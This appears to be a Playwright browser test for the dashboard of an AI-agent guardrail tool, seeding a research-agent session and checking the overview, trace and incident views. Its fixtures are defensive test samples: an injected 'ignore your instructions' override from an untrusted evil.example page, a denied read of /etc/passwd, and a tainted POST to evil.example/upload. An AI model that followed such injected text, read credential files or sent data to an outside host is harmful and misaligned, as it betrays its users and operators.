import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { createWarden, type Warden } from '../../src/pipeline/warden.js';
import { policyFromObject } from '../../src/policy/load.js';
import { type RunningServer, startServer } from '../../src/server/serve.js';
import { TokenRegistry } from '../../src/server/tokens.js';
import { openSqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import type { Store } from '../../src/store/store.js';
import { ROOT, tempDir } from '../helpers/cli.js';
import { launchChromium } from './browser.js';

// The overview, session trace and incident views (issue 22), in Chromium, from a seeded store.
const T = {
  admin: 'admin-token-operator-views-0123456789',
  viewer: 'viewer-token-operator-views-0123456789',
  reader: 'reader-agent-operator-views-0123456789',
  payer: 'payer-agent-operator-views-0123456789',
};
const SOURCE = 'http:https://evil.example/paper.html';
/** The parts of a DOM element the page callbacks read (the tests compile without the DOM lib). */
interface El {
  dataset: Record<string, string | undefined>;
  offsetParent: unknown;
  disabled?: boolean;
  textContent: string | null;
  cloneNode(deep: boolean): El;
  querySelector(selector: string): unknown;
  querySelectorAll(selector: string): { remove(): void }[];
}
const tmp = tempDir();
const SHOTS = join(ROOT, 'docs/screenshots');
let store: Store;
let warden: Warden;
let server: RunningServer;
let browser: Browser;
const contexts: BrowserContext[] = [];

async function agent(token: string, body: Record<string, unknown>, result?: Record<string, unknown>) {
  const post = (path: string, b: unknown) =>
    fetch(`${server.url}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(b),
    }).then((r) => r.json() as Promise<{ id: string; status: string }>);
  const submitted = await post('/v1/actions', body);
  if (result && submitted.status === 'allowed') await post(`/v1/actions/${submitted.id}/result`, result);
  return submitted;
}

before(async () => {
  store = await openSqliteStore(join(tmp.dir, 'warden.db'));
  warden = await createWarden({
    store,
    killPollMs: 50,
    policy: policyFromObject({
      agents: {
        'research-agent': {
          description: 'Reads papers; never writes',
          allow: ['fs.read', 'fs.list', 'llm.generate'],
          resources: { paths: ['/data/**'] },
        },
        'finance-agent': { description: 'Pays approved invoices', allow: ['payment.*'] },
      },
      approvals: { timeout: '30m' },
      limits: {
        budgets: [{ name: 'daily-budget', match: { agent: 'research-agent' }, usd: 5, period: 'day' }],
        loop: { max: 5 },
      },
    }),
  });
  const tokens = new TokenRegistry([]);
  tokens.register(T.admin, { name: 'root', role: 'admin' });
  tokens.register(T.viewer, { name: 'vic', role: 'viewer' });
  tokens.register(T.reader, { name: 'research-bot', role: 'agent', agent: 'research-agent' });
  tokens.register(T.payer, { name: 'finance-bot', role: 'agent', agent: 'finance-agent' });
  server = await startServer(warden, tokens, { port: 0 });
  browser = await launchChromium();

  // A research session: reads that cost, a page that carried an injection, a read outside the
  // root, a tainted request, an anomaly, and a kill.
  const session = 'research-1';
  const read = (n: number, path: string, usd: number) =>
    agent(
      T.reader,
      {
        id: `act_read_${n}`,
        agent: 'research-agent',
        session,
        type: 'fs.read',
        params: { path },
        cost: { usd },
      },
      { status: 'completed', output: { bytes: 1200 + n } },
    );
  await read(1, '/data/papers/attention.pdf', 0.4);
  await read(2, '/data/papers/transformers.pdf', 0.6);
  await warden.audit.append({
    type: 'observation',
    agent: 'research-agent',
    data: {
      session,
      source: SOURCE,
      trust: 'untrusted',
      labels: ['injection'],
      findings: [{ code: 'injection.override', message: 'ignore your instructions' }],
    },
  });
  await agent(T.reader, {
    id: 'act_etc',
    agent: 'research-agent',
    session,
    type: 'fs.read',
    params: { path: '/etc/passwd' },
  });
  await warden.audit.append({
    type: 'decision',
    agent: 'research-agent',
    actionId: 'act_exfil',
    data: {
      action: {
        type: 'http.request',
        params: { url: 'https://evil.example/upload', method: 'POST' },
        session,
      },
      decision: {
        id: 'act_exfil',
        effect: 'ask',
        risk: 'high',
        reasons: [
          {
            code: 'taint.argument-from-untrusted',
            stage: 'guards',
            message: `the url came from ${SOURCE}`,
            source: SOURCE,
          },
        ],
      },
    },
  });
  await read(3, '/data/papers/loop.pdf', 0.5);
  await warden.audit.append({
    type: 'anomaly',
    agent: 'research-agent',
    actionId: 'act_read_3',
    actor: 'warden:monitor',
    data: {
      code: 'anomaly.loop',
      severity: 'high',
      message: 'the same fs.read 5 times in 1m',
      response: 'kill',
    },
  });
  await warden.kills.kill('research-agent', 'warden:monitor', 'anomaly.loop: the same fs.read 5 times in 1m');
  await agent(T.payer, {
    id: 'act_pay',
    agent: 'finance-agent',
    type: 'payment.send',
    params: { amount: 420, currency: 'USD', to: 'acme-supplies' },
    description: 'Invoice #1042',
  });
});
afterEach(async () => {
  for (const c of contexts.splice(0)) await c.close().catch(() => {});
});
after(async () => {
  await browser?.close();
  await server?.close();
  await warden?.close();
  await store?.close();
  tmp.remove();
});

async function signIn(token: string, hash = ''): Promise<Page> {
  const context = await browser.newContext({
    viewport: { width: 1400, height: 1000 },
    acceptDownloads: true,
  });
  contexts.push(context);
  const page = await context.newPage();
  page.on('pageerror', (e) => process.stderr.write(`page error: ${e.message}\n`));
  await page.goto(`${server.url}/dashboard/${hash}`);
  await page.waitForSelector('#login-form:visible');
  await page.fill('#login-token', token);
  await page.click('#login-form button[type=submit]');
  await page.waitForSelector('#nav:visible');
  return page;
}

async function until(check: () => Promise<boolean>, what: string, ms = 15_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}
const kpi = (page: Page, name: string) => page.textContent(`#overview-kpis [data-kpi="${name}"] strong`);
const dataOf = (page: Page, selector: string, key: string) =>
  page.$eval(selector, (el, k) => (el as unknown as El).dataset[k as string] ?? '', key);

describe('the operator views in Chromium', () => {
  test('the overview draws its charts from the seeded store and follows new decisions live', async () => {
    const page = await signIn(T.admin);
    await page.waitForSelector('#chart-decisions canvas');
    await page.waitForSelector('#chart-spend canvas');
    await page.waitForSelector('#chart-events canvas');
    assert.equal(await kpi(page, 'allowed'), '3');
    assert.equal(await kpi(page, 'denied'), '1');
    assert.equal(await kpi(page, 'asked'), '2');
    assert.equal(await kpi(page, 'spent'), '$1.50');
    assert.equal(await dataOf(page, '#chart-decisions', 'series'), '3');
    // Research spent against its budget: a spend line and a dashed budget line.
    assert.equal(await dataOf(page, '#chart-spend', 'series'), '2');
    assert.match(
      (await page.textContent('#chart-spend')) ?? '',
      /research-agent budget \(budget:daily-budget/,
    );
    assert.match((await page.textContent('#deny-reasons')) ?? '', /fs\.path-outside|outside|permissions\./);
    assert.match((await page.textContent('#ask-reasons')) ?? '', /taint\.argument-from-untrusted/);
    const open = (await page.textContent('#open-approvals')) ?? '';
    assert.match(open, /finance-agent.*payment\.send/s);
    assert.match(open, /\d+s|\d+m/);
    const events = (await page.textContent('#event-list')) ?? '';
    assert.match(events, /anomaly.*anomaly\.loop/s);
    assert.match(events, /kill/);
    await page.screenshot({ path: join(SHOTS, 'overview.png'), fullPage: true });

    // A new decision arrives: the overview updates without a reload.
    const before = Number(await kpi(page, 'denied'));
    await agent(T.payer, { agent: 'finance-agent', type: 'fs.delete', params: { path: '/tmp/x' } });
    await until(
      async () => Number(await kpi(page, 'denied')) === before + 1,
      'the new denial on the overview',
    );

    await page.click('#theme');
    await until(async () => (await page.getAttribute('html', 'data-theme')) === 'dark', 'the dark theme');
    await page.waitForSelector('#chart-decisions canvas');
    await page.screenshot({ path: join(SHOTS, 'overview-dark.png'), fullPage: true });
  });

  test('a session trace shows the seeded steps in order, with reasons, and the source that tainted it', async () => {
    const page = await signIn(T.viewer, '#trace/research-agent/research-1');
    await page.waitForSelector('#trace-steps li.step');
    const steps = await page.$$eval('#trace-steps li.step', (els) =>
      els.map((el) => {
        const d = (el as unknown as El).dataset;
        return `${d.kind}:${d.action ?? d.source}:${d.effect ?? ''}`;
      }),
    );
    assert.deepEqual(steps, [
      'action:act_read_1:allow',
      'action:act_read_2:allow',
      `observation:${SOURCE}:`,
      'action:act_etc:deny',
      'action:act_exfil:ask',
      'action:act_read_3:allow',
    ]);
    const first = (await page.textContent('#trace-steps li[data-action=act_read_1]')) ?? '';
    assert.match(first, /fs\.read/);
    assert.match(first, /completed/);
    assert.match(first, /\$0\.40/);
    const denied = (await page.textContent('#trace-steps li[data-action=act_etc]')) ?? '';
    assert.match(denied, /why/);
    assert.match(denied, /permissions|fs\./);
    assert.ok(
      await page.$(`#trace-steps li.observation.tainting[data-source="${SOURCE}"]`),
      'the tainting read is highlighted',
    );
    assert.ok(
      await page.$('#trace-steps li.tainted[data-action=act_exfil]'),
      'the tainted decision is highlighted',
    );
    assert.match(
      (await page.textContent('#trace-steps li[data-action=act_exfil]')) ?? '',
      /tainted by.*evil\.example/s,
    );
    assert.match((await page.textContent('#trace-steps li[data-action=act_read_3]')) ?? '', /anomaly\.loop/);
    // The records themselves are only behind a details toggle.
    assert.equal(await page.isVisible('#trace-steps li[data-action=act_etc] details pre'), false);
    await page.screenshot({ path: join(SHOTS, 'trace.png'), fullPage: true });

    // Every decision in the other views links here.
    await page.goto(`${server.url}/dashboard/#audit`);
    await page.waitForSelector('#audit-rows tr[data-type=decision] a.trace-link');
    const links = await page.$$eval('#audit-rows tr[data-type=decision]', (rows) =>
      rows.map((r) => Boolean(r.querySelector('a.trace-link'))),
    );
    assert.ok(links.length > 0 && links.every(Boolean), 'every decision row links to its trace');
    await page.click('#audit-rows tr[data-type=decision] a.trace-link[href*="act_etc"]');
    await page.waitForSelector('#trace-steps li.target[data-action=act_etc]');
  });

  test('the incident page renders the seeded incident, its diff, and only an admin can export it', async () => {
    const viewer = await signIn(T.viewer, '#incident/research-agent');
    await viewer.waitForSelector('#incident-body pre.diff, #incident-body .kpis');
    assert.equal(await viewer.isDisabled('#incident-export'), true);

    const page = await signIn(T.admin, '#incident/research-agent');
    await page.waitForSelector('#chart-incident canvas');
    const text = (await page.textContent('#incident-body')) ?? '';
    assert.match(text, /first sign/);
    assert.match(text, /anomaly\.loop/);
    assert.match(text, /Cost \$1\.50/);
    assert.match(text, /kill by warden:monitor/);
    await page.waitForSelector('#incident-body pre.diff span.add');
    assert.match((await page.textContent('#incident-body pre.diff')) ?? '', /^\+.*research-agent/m);
    await page.screenshot({ path: join(SHOTS, 'incident.png'), fullPage: true });
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#incident-export')]);
    assert.match(download.suggestedFilename(), /^incident-research-agent-.*\.md$/);
  });

  test('no table cell shows raw JSON: an anomaly reads as text, its JSON is behind a toggle', async () => {
    const page = await signIn(T.admin, '#audit');
    await page.waitForSelector('#audit-rows tr[data-type=anomaly]');
    await page.click('nav a[data-view=activity]');
    await page.waitForSelector('#activity-rows tr[data-type=anomaly]');
    const cells = await page.$$eval('#activity-rows td, #audit-rows td', (tds) =>
      tds.map((td) => {
        const copy = (td as unknown as El).cloneNode(true);
        for (const d of copy.querySelectorAll('details')) d.remove();
        return copy.textContent ?? '';
      }),
    );
    const json = cells.filter((t) => /[{[]\s*"|":\s*["{[\d]/.test(t));
    assert.deepEqual(json, []);
    assert.match(
      (await page.textContent('#activity-rows tr[data-type=anomaly]')) ?? '',
      /anomaly\.loop.*the same fs\.read 5 times/s,
    );
  });

  test('limit rows say what they count: each loop counter names its call', async () => {
    const page = await signIn(T.viewer, '#agents');
    await page.waitForSelector('tr[data-agent="research-agent"] .limits');
    const loops = await page.$$eval(
      'tr[data-agent="research-agent"] .limits [data-kind=loop] .counts',
      (els) => els.map((el) => (el as unknown as El).textContent ?? ''),
    );
    assert.deepEqual(loops.sort(), [
      'loop: fs.read /data/papers/attention.pdf in session research-1',
      'loop: fs.read /data/papers/loop.pdf in session research-1',
      'loop: fs.read /data/papers/transformers.pdf in session research-1',
    ]);
  });

  const FILLED: Record<string, string> = {
    overview: '#chart-spend canvas',
    trace: '#trace-steps li.step',
    incident: '#incident-body pre.diff',
    approvals: '#approvals-list article',
    agents: '#agent-rows tr',
    audit: '#audit-rows tr',
  };
  test('keyboard navigation reaches every action of every view', async () => {
    const page = await signIn(T.admin);
    for (const view of ['overview', 'trace', 'incident', 'approvals', 'agents', 'audit']) {
      const hash =
        view === 'trace'
          ? '#trace/research-agent/research-1'
          : view === 'incident'
            ? '#incident/research-agent'
            : `#${view}`;
      await page.goto(`${server.url}/dashboard/${hash}`);
      await page.waitForSelector(`#view-${view}:visible`);
      // The view filled in before walking it.
      await page.waitForSelector(FILLED[view] as string);
      const wanted = await page.$$eval(
        `header.top a, header.top button, #view-${view} :is(a[href], button, input, select, summary)`,
        (els) =>
          els
            .filter((el) => (el as unknown as El).offsetParent !== null && !(el as unknown as El).disabled)
            .map((el, i) => {
              (el as unknown as El).dataset.kb = String(i);
              return String(i);
            }),
      );
      const reached = new Set<string>();
      await page.focus('body');
      for (let i = 0; i < wanted.length * 2 + 20 && reached.size < wanted.length; i++) {
        await page.keyboard.press('Tab');
        const kb = await page.evaluate(
          () =>
            (globalThis as unknown as { document: { activeElement: El | null } }).document.activeElement
              ?.dataset.kb,
        );
        if (kb !== undefined) reached.add(kb);
      }
      assert.deepEqual(
        wanted.filter((k) => !reached.has(k)),
        [],
        `every action of ${view} is reached by Tab (${wanted.length} of them)`,
      );
    }
  });
});
